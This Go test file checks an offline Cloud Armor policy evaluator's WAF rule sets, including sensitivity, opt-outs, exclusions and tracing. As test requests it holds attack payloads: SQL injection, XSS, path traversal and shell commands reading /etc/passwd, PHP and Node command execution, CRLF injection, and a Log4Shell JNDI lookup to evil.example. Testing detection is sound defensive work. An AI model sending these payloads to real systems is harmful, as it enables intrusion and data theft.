package policyeval

import (
	"fmt"
	"net/netip"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/armorplane/provider-cloudarmor/apis/cloudarmor/v1beta1"
	"github.com/armorplane/provider-cloudarmor/internal/wafset"
)

// wafExpr is evaluatePreconfiguredWaf(set, {'sensitivity': n}).
func wafExpr(set string, n int) string {
	return fmt.Sprintf("evaluatePreconfiguredWaf('%s', {'sensitivity': %d})", set, n)
}

func query(q string) Request { return Request{IP: "192.0.2.1", Path: "/search", Query: q} }

// benign is a request no signature of any set should match.
var benign = Request{IP: "192.0.2.1", Path: "/products/shoes", Query: "color=blue&page=2",
	Headers: map[string]string{"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0", "Accept": "text/html"}}

// TestWafSets: an attack of each family is caught by its set at sensitivity
// 1, and a benign request is not.
func TestWafSets(t *testing.T) {
	cases := map[string]struct {
		reason string
		expr   string
		req    Request
		want   result
	}{
		"SQLi":              {"A tautology in a query parameter.", wafExpr("sqli-v33-stable", 1), query("id=1' OR '1'='1"), allowed},
		"SQLiBenign":        {"A plain search is no SQL injection.", wafExpr("sqli-v33-stable", 1), query("q=running shoes"), denied},
		"SQLiCanary":        {"The canary set is the same CRS family.", wafExpr("sqli-v33-canary", 1), query("id=1' OR '1'='1"), allowed},
		"SQLiCRS30":         {"CRS 3.0 names map to the same family.", "evaluatePreconfiguredExpr('sqli-stable')", query("id=1' OR '1'='1"), allowed},
		"SQLiCRS422":        {"A CRS 4.22 set.", wafExpr("sqli-v422-stable", 1), query("id=1' OR '1'='1"), allowed},
		"XSS":               {"A script tag.", wafExpr("xss-v33-stable", 1), query("q=<script>alert(1)</script>"), allowed},
		"XSSBenign":         {"Text with a less-than sign.", wafExpr("xss-v33-stable", 1), query("q=a < b"), denied},
		"LFI":               {"Path traversal.", wafExpr("lfi-v33-stable", 1), query("file=../../etc/passwd"), allowed},
		"LFIBenign":         {"A file name.", wafExpr("lfi-v33-stable", 1), query("file=report.pdf"), denied},
		"RFI":               {"A URL to an IP address ending in '?'.", wafExpr("rfi-v33-stable", 1), query("url=http://192.0.2.9/x.txt?"), allowed},
		"RFIBenign":         {"A relative link.", wafExpr("rfi-v33-stable", 1), query("next=/account"), denied},
		"RCE":               {"A shell command.", wafExpr("rce-v33-stable", 1), query("cmd=;cat /etc/passwd"), allowed},
		"RCEBenign":         {"A word.", wafExpr("rce-v33-stable", 1), query("cmd=status"), denied},
		"MethodEnforcement": {"TRACE is not an allowed method.", wafExpr("methodenforcement-v33-stable", 1), Request{IP: "192.0.2.1", Method: "TRACE"}, allowed},
		"MethodAllowed":     {"GET is.", wafExpr("methodenforcement-v33-stable", 1), Request{IP: "192.0.2.1", Method: "GET"}, denied},
		"ScannerDetection": {"A scanner's user agent.", wafExpr("scannerdetection-v33-stable", 1),
			Request{IP: "192.0.2.1", Headers: map[string]string{"User-Agent": "nikto"}}, allowed},
		"ScannerBenign":  {"A browser's.", wafExpr("scannerdetection-v33-stable", 1), benign, denied},
		"ProtocolAttack": {"CR LF and a header in a parameter.", wafExpr("protocolattack-v33-stable", 1), query("a=b%0d%0aSet-Cookie:%20x=y"), allowed},
		"PHP":            {"A PHP open tag.", wafExpr("php-v33-stable", 1), query("a=<?php system('id'); ?>"), allowed},
		"SessionFixation": {"A session id parameter with an off-domain referer.", wafExpr("sessionfixation-v33-stable", 1),
			Request{IP: "192.0.2.1", Query: "jsessionid=abc", Headers: map[string]string{"Referer": "http://evil.example/"}}, allowed},
		"Java": {"Log4Shell in a header.", wafExpr("java-v33-stable", 1),
			Request{IP: "192.0.2.1", Headers: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}}, allowed},
		"NodeJS":   {"child_process.", wafExpr("nodejs-v33-stable", 1), query("a=require('child_process').exec('id')"), allowed},
		"Generic":  {"CRS 4's generic set holds the Node.js signatures.", wafExpr("generic-v422-stable", 1), query("a=require('child_process').exec('id')"), allowed},
		"JSONSQLi": {"json-sqli-canary is CRS 942550.", "evaluatePreconfiguredWaf('json-sqli-canary')", query(`a={"a":1}='{"a":1}'`), allowed},
		"JSONSQLiOnly": {"json-sqli-canary has no other SQLi signature.", "evaluatePreconfiguredWaf('json-sqli-canary')",
			query("id=1' OR '1'='1"), denied},
		"CVE": {"Google's CVE signatures have no CRS counterpart.", "evaluatePreconfiguredWaf('cve-canary')", benign,
			notEvaluable("preconfigured WAF rules (evaluatePreconfiguredWaf); cve-canary has no OWASP CRS counterpart")},
		"SourceIPList": {"A named IP address list is not known offline.", "evaluatePreconfiguredExpr('sourceiplist-fastly')", benign,
			notEvaluable("preconfigured rules (evaluatePreconfiguredExpr); sourceiplist-fastly is a named IP address list, which offline evaluation does not have")},
	}
	e, _ := New()
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			v, err := e.Evaluate(exprPolicy(tc.expr), tc.req)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, summarize(v)); diff != "" {
				t.Errorf("\n%s\nEvaluate(%q): -want, +got:\n%s\n%s", tc.reason, tc.expr, diff, v.Trace[0].Why)
			}
		})
	}
}

// TestWafBenignEverySet: a plain request matches no set Cloud Armor
// offers, at any sensitivity.
func TestWafBenignEverySet(t *testing.T) {
	e, _ := New()
	for name := range wafset.Names() {
		if name == "cve-canary" {
			continue
		}
		v, err := e.Evaluate(exprPolicy(wafExpr(name, 4)), benign)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(denied, summarize(v)); diff != "" {
			t.Errorf("%s: a benign request: -want, +got:\n%s\n%s", name, diff, v.Trace[0].Why)
		}
	}
}

// TestWafTuning: sensitivity, opt-in and opt-out lists, exclusions and the
// request body.
func TestWafTuning(t *testing.T) {
	attack := query("id=1' OR '1'='1")
	str := func(s string) *string { return &s }
	type want struct {
		Result   result
		Warnings []string
	}
	cases := map[string]struct {
		reason     string
		expr       string
		req        Request
		exclusions []v1beta1.WafExclusion
		want       want
	}{
		"SensitivityZero": {"Sensitivity 0 enables no signature.", wafExpr("sqli-v33-stable", 0), attack, nil, want{Result: denied}},
		"OptIn": {"Sensitivity 0 with a signature opted in.",
			"evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 0, 'opt_in_rule_ids': ['owasp-crs-v030301-id942100-sqli']})", attack, nil, want{Result: allowed}},
		"OptOut": {"Opting out the one sensitivity-1 signature that matched.",
			"evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 1, 'opt_out_rule_ids': ['owasp-crs-v030301-id942100-sqli']})", attack, nil, want{Result: denied}},
		"OptOutHigherSensitivity": {"At sensitivity 2 other signatures still match.",
			"evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 2, 'opt_out_rule_ids': ['owasp-crs-v030301-id942100-sqli']})", attack, nil, want{Result: allowed}},
		"DefaultSensitivity": {"Without options every signature runs (sensitivity 4).", "evaluatePreconfiguredWaf('sqli-v33-stable')", attack, nil, want{Result: allowed}},
		"ExprOptOut": {"evaluatePreconfiguredExpr's list opts out.",
			"evaluatePreconfiguredExpr('xss-v33-stable', ['owasp-crs-v030301-id941100-xss', 'owasp-crs-v030301-id941110-xss', 'owasp-crs-v030301-id941160-xss', 'owasp-crs-v030301-id941390-xss', 'owasp-crs-v030301-id941320-xss'])",
			query("q=<script>alert(1)</script>"), nil, want{Result: denied}},
		"UnknownID": {"An id CRS 4.22 does not have is a warning.",
			"evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 1, 'opt_out_rule_ids': ['owasp-crs-v030301-id942110-sqli']})", attack, nil,
			want{Result: allowed, Warnings: []string{"priority 1000: sqli-v33-stable: opt_out_rule_ids has owasp-crs-v030301-id942110-sqli, which OWASP CRS 4.22 does not have (renumbered or removed); ignored"}}},
		"OtherSetID": {"An id of another set is a warning.",
			"evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 1, 'opt_in_rule_ids': ['owasp-crs-v030301-id941100-xss']})", benign, nil,
			want{Result: denied, Warnings: []string{"priority 1000: sqli-v33-stable: opt_in_rule_ids has owasp-crs-v030301-id941100-xss, not a signature of the set; ignored"}}},
		"BadSensitivity": {"A sensitivity over 4 fails: no match, with a warning.", wafExpr("sqli-v33-stable", 7), attack, nil,
			want{Result: denied, Warnings: []string{"priority 1000: the expression failed (evaluatePreconfiguredWaf: sensitivity: 7 is not a sensitivity from 0 to 4) and is counted as no match"}}},
		"Body": {"No match on a request with a body: the body decides.", wafExpr("sqli-v33-stable", 1),
			Request{IP: "192.0.2.1", Method: "POST", Path: "/login", Headers: map[string]string{"Content-Length": "42"}}, nil,
			want{Result: notEvaluable("request.body, which WAF signatures inspect (the request has a Content-Length or Transfer-Encoding); " +
				"sqli-v33-stable at sensitivity 1 (CRS 4.22 rules standing in for 3.3): no signature matched the request line, headers and cookies")}},
		"BodyMatch": {"A match outside the body decides whatever the body holds.", wafExpr("sqli-v33-stable", 1),
			Request{IP: "192.0.2.1", Method: "POST", Path: "/login", Query: "id=1' OR '1'='1", Headers: map[string]string{"Content-Length": "42"}}, nil, want{Result: allowed}},
		"ExcludedParam": {"A query parameter excluded from the set.", wafExpr("sqli-v33-stable", 1), attack,
			[]v1beta1.WafExclusion{{TargetRuleSet: "sqli-v33-stable", RequestQueryParamsToExclude: []v1beta1.WafExclusionFieldParams{{Op: "EQUALS", Val: str("id")}}}},
			want{Result: denied}},
		"ExcludedOtherParam": {"An exclusion of another parameter changes nothing.", wafExpr("sqli-v33-stable", 1), attack,
			[]v1beta1.WafExclusion{{TargetRuleSet: "sqli-v33-stable", RequestQueryParamsToExclude: []v1beta1.WafExclusionFieldParams{{Op: "STARTS_WITH", Val: str("q")}}}},
			want{Result: allowed}},
		"ExcludedOtherSet": {"An exclusion for another set changes nothing.", wafExpr("sqli-v33-stable", 1), attack,
			[]v1beta1.WafExclusion{{TargetRuleSet: "xss-v33-stable", RequestQueryParamsToExclude: []v1beta1.WafExclusionFieldParams{{Op: "EQUALS_ANY"}}}},
			want{Result: allowed}},
		"ExcludedOneSignature": {"An exclusion of 942100 only: at sensitivity 2 others match.", wafExpr("sqli-v33-stable", 2), attack,
			[]v1beta1.WafExclusion{{TargetRuleSet: "sqli-v33-stable", TargetRuleIds: []string{"owasp-crs-v030301-id942100-sqli"},
				RequestQueryParamsToExclude: []v1beta1.WafExclusionFieldParams{{Op: "EQUALS", Val: str("id")}}}},
			want{Result: allowed}},
		"ExcludedHeader": {"A header excluded, in any case.", wafExpr("scannerdetection-v33-stable", 1),
			Request{IP: "192.0.2.1", Headers: map[string]string{"User-Agent": "nikto"}},
			[]v1beta1.WafExclusion{{TargetRuleSet: "scannerdetection-v33-stable", RequestHeadersToExclude: []v1beta1.WafExclusionFieldParams{{Op: "EQUALS", Val: str("User-Agent")}}}},
			want{Result: denied}},
	}
	e, _ := New()
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			p := exprPolicy(tc.expr)
			p.Rules[0].PreconfiguredWafConfig = &v1beta1.PreconfiguredWafConfig{Exclusions: tc.exclusions}
			v, err := e.Evaluate(p, tc.req)
			if err != nil {
				t.Fatal(err)
			}
			got := want{Result: summarize(v)}
			for _, w := range v.Warnings {
				if w != "no manifest sets the default rule: assumed allow, the default rule GCP creates" {
					got.Warnings = append(got.Warnings, w)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("\n%s\nEvaluate(%q): -want, +got:\n%s\n%s", tc.reason, tc.expr, diff, v.Trace[0].Why)
			}
		})
	}
}

// TestWafExplain: the trace says which signatures matched, on which
// fields, and which did not count.
func TestWafExplain(t *testing.T) {
	e, _ := New()
	v, err := e.Evaluate(exprPolicy("evaluatePreconfiguredWaf('sqli-v422-stable', {'sensitivity': 1})"), query("id=1' OR '1'='1"))
	if err != nil {
		t.Fatal(err)
	}
	want := "expression is true; sqli-v422-stable at sensitivity 1 matched: 942100 SQL Injection Attack Detected via libinjection (ARGS:id); " +
		"out of scope: 942130 (sensitivity 2), 942180 (sensitivity 2), 942330 (sensitivity 2), 942370 (sensitivity 2), 942390 (sensitivity 2), " +
		"942520 (sensitivity 2), 942511 (sensitivity 3), 942432 (sensitivity 4)"
	if diff := cmp.Diff(want, v.Trace[0].Why); diff != "" {
		t.Errorf("Evaluate(...).Trace[0].Why: -want, +got:\n%s", diff)
	}
}

// TestWafEngines: every CRS file a set maps to compiles, once.
func TestWafEngines(t *testing.T) {
	for family, f := range wafFamilies {
		e1, err := engine(f.file)
		if err != nil {
			t.Errorf("%s: engine(%s): %v", family, f.file, err)
			continue
		}
		e2, _ := engine(f.file)
		known := 0
		for id := range e1.ids {
			if f.has(id) {
				known++
			}
		}
		if e1 != e2 || e1.waf == nil || known == 0 {
			t.Errorf("%s: engine(%s): want one compiled engine that knows the family's rules", family, f.file)
		}
	}
	for version, families := range wafset.Families {
		for _, family := range families {
			if _, ok := wafFamilies[family]; !ok {
				t.Errorf("wafset family %s (CRS%s) has no CRS file", family, version)
			}
		}
	}
}

// TestWafOnceARequest: two rules on the same CRS file run the request
// through it once.
func TestWafOnceARequest(t *testing.T) {
	p := Merge("p", v1beta1.SecurityPolicyParameters{Rules: []v1beta1.PolicyRule{
		{Priority: 10, RuleParameters: v1beta1.RuleParameters{Action: "deny(403)", Preview: ptr(true), Match: &v1beta1.RuleMatcher{Expr: &v1beta1.Expr{Expression: wafExpr("sqli-v33-stable", 4)}}}},
		{Priority: 20, RuleParameters: v1beta1.RuleParameters{Action: "deny(404)", Match: &v1beta1.RuleMatcher{Expr: &v1beta1.Expr{Expression: wafExpr("sqli-v33-canary", 1)}}}},
	}}, nil)
	e, _ := New()
	act, _, err := activation(p, query("id=1' OR '1'='1"))
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range p.Rules[:2] {
		if o, why, _ := e.match(r, act, ipOf(t, "192.0.2.1")); o != Match {
			t.Fatalf("rule %d: %s: %s", r.Priority, o, why)
		}
	}
	if got := len(act[wafVar].(*wafCall).hits); got != 1 {
		t.Errorf("CRS files run: got %d, want 1", got)
	}
}

func ipOf(t *testing.T, s string) netip.Addr {
	t.Helper()
	a, err := netip.ParseAddr(s)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// TestWafConcurrent: an Evaluator is safe for concurrent use, the first
// use of a CRS file among them (run with -race).
func TestWafConcurrent(t *testing.T) {
	e, _ := New()
	p := exprPolicy(wafExpr("php-v33-stable", 1))
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			v, err := e.Evaluate(p, query("a=<?php system('id'); ?>"))
			if err == nil && summarize(v) != allowed {
				err = fmt.Errorf("got %+v, want %+v", summarize(v), allowed)
			}
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}
